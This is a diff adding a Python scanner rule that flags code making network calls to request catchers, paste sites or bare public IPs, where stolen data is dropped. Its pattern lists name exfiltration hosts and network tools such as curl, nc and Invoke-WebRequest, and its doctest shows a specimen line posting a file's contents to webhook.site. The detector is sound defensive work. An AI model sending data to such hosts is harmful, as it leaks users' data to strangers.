@@ -1,0 +1,89 @@
+"""Code that talks to a request catcher, a paste site or a bare public IP address.
+
+Request catchers (``webhook.site``, ``requestbin``, interaction servers) exist to
+collect whatever strangers send them, and a skill's code has no reason to call a bare
+public IP address or a paste site: these are where stolen data is dropped and where
+command-and-control lives. The URL must be used by a network call, on its line or through
+a name it is assigned to, so a list of hosts to block or a help text is not a finding.
+Prose is never read here (documents describe such hosts), nor are test files, where a
+scanner keeps the specimens it is tested on.
+
+>>> code = "URL = 'https://webhook.site/0f3a'\\nrequests.post(URL, data=open('n').read())"
+>>> [(f.rule_id, f.line) for f in collector_requests("scripts/a.py", code)]
+[('network.collector-host', 1)]
+>>> collector_requests("scripts/a.py", "BLOCKED = ['webhook.site', 'requestbin.net']")
+[]
+"""
+
+from __future__ import annotations
+
+import re
+
+from .family_patterns import PASTE_HOSTS, PUBLIC_IP
+from .findings import ThreatFinding, line_at
+from .literal_scan import line_index
+
+RULE_ID = "network.collector-host"
+_CATCHERS = (
+    r"webhook\.site|requestbin\.\w+|[\w-]+\.m\.pipedream\.net|hookbin\.com|beeceptor\.com"
+    r"|requestcatcher\.com|webhook\.cool|interact\.sh|oast\.(?:fun|live|site|online|pro|me)"
+    r"|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io"
+)
+_COLLECTOR_URL = re.compile(
+    rf"\bhttps?://(?:(?:[\w-]+\.)*(?:{_CATCHERS}|{PASTE_HOSTS})(?=[/:\s\"'`)>\]]|$)|{PUBLIC_IP})",
+    re.I,
+)
+_NETWORK_CALL = re.compile(
+    r"\b(?:requests|httpx|aiohttp|session)\.(?:get|post|put|patch|request)\s*\("
+    r"|\burlopen\s*\(|\bRequest\s*\(|\bHTTPS?Connection\s*\(|\bfetch\s*\(|\baxios\b"
+    r"|\bhttps?\.(?:get|request)\s*\(|\bXMLHttpRequest\b|\.open\s*\(\s*[\"'](?:GET|POST|PUT)"
+    r"|\bsendBeacon\s*\(|\bWebSocket\s*\(|\bsocket\.(?:connect|create_connection)\b"
+    r"|\b(?:curl|wget|nc|ncat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b"
+)
+_NOT_A_SERVER = re.compile(
+    r"//(?:100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.)"
+)
+"""Carrier-grade NAT space (100.64.0.0/10), where private overlay networks put their hosts,
+and the documentation ranges (RFC 5737), which no server answers on."""
+_ASSIGNED = re.compile(r"^\s*(?:export\s+|const\s+|let\s+|var\s+)?([A-Za-z_$][\w$]*)\s*[:=]")
+_COMMENT = re.compile(r"^\s*(?:#|//|\*|/\*)")
+_TEST_FILE = re.compile(
+    r"(?:^|/)(?:tests?|__tests__|spec)/|(?:^|/)test_[^/]*\.py$|_test\.py$|\.(?:test|spec)\.[cm]?[jt]sx?$"
+)
+_FOLLOWING = 200
+"""Lines after an assignment in which a use of the name counts."""
+
+
+def collector_requests(path: str, text: str) -> list[ThreatFinding]:
+    """One finding per line whose collector URL a network call of this file uses."""
+    if _TEST_FILE.search(path) or not _COLLECTOR_URL.search(text):
+        return []
+    lines = line_index(text).lines
+    findings = []
+    for number, line in enumerate(lines, 1):
+        url = _COLLECTOR_URL.search(line)
+        if not url or _COMMENT.match(line) or _NOT_A_SERVER.search(url.group(0)):
+            continue
+        if _NETWORK_CALL.search(line) or _used_by_a_call(line, lines[number : number + _FOLLOWING]):
+            findings.append(
+                ThreatFinding(
+                    "8.2",
+                    "high",
+                    path,
+                    number,
+                    line_at(lines, number),
+                    f"network call to {url.group(0)[:60]}: a request catcher, paste site, "
+                    "or bare IP, where stolen data is collected",
+                    RULE_ID,
+                )
+            )
+    return findings
+
+
+def _used_by_a_call(line: str, following: list[str]) -> bool:
+    """``line`` assigns the URL to a name that a later network call uses."""
+    assigned = _ASSIGNED.match(line)
+    if not assigned:
+        return False
+    name = re.compile(rf"(?<![\w.]){re.escape(assigned.group(1))}(?![\w$])")
+    return any(_NETWORK_CALL.search(later) and name.search(later) for later in following)
